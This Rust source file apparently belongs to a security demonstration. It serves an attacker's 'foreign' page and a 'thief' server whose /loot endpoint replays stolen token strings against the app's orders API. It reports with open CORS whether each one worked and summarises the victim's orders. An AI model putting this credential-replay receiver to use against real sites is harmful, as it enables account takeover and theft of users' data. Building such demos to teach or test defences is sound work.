//! The foreign site: a page that attacks from another site, and the thief's server, which tries
//! stolen strings at the API.

use std::sync::Arc;

use axum::extract::{DefaultBodyLimit, State};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use http::header;
use serde_json::{Value, json};

use super::{Addresses, Pages};
use crate::fetch;

/// The longest loot, in bytes.
const LARGEST: usize = 16 * 1024;

/// The page and the thief's server. `api` is where the thief finds the API.
pub(crate) fn routes(pages: &Pages, addresses: &Addresses, api: &str) -> Router {
    let setup = json!({ "app": addresses.app });
    let thief = Router::new()
        .route("/loot", post(try_loot))
        .layer(DefaultBodyLimit::max(LARGEST))
        .with_state(Arc::from(format!("{api}/api/orders")));
    pages
        .routes("/foreign.html", &addresses.app)
        .route("/setup", get(|| async move { Json(setup) }))
        .merge(thief)
}

/// Calls the API with a stolen string and tells the page's injected script what came of it.
async fn try_loot(State(orders): State<Arc<str>>, loot: String) -> Response {
    let verdict = match fetch::get(&orders, Some(&loot)).await {
        Ok((status, body)) if status.is_success() => {
            json!({ "accepted": true, "got": describe(&body) })
        }
        Ok((status, _)) => json!({ "accepted": false, "got": format!("status {status}") }),
        Err(reason) => json!({ "accepted": false, "got": reason }),
    };
    // Any page may talk to the thief.
    ([(header::ACCESS_CONTROL_ALLOW_ORIGIN, "*")], Json(verdict)).into_response()
}

/// "ada's 2 orders, the newest: Umbrella."
fn describe(body: &[u8]) -> String {
    let answer: Value = serde_json::from_slice(body).unwrap_or_default();
    let orders = answer["orders"].as_array().map(Vec::as_slice).unwrap_or_default();
    let subject = answer["received"]["token"]["subject"].as_str().unwrap_or("somebody");
    let newest = orders.last().and_then(|order| order["item"].as_str()).unwrap_or("none");
    format!("{subject}'s {} orders, the newest: {newest}.", orders.len())
}
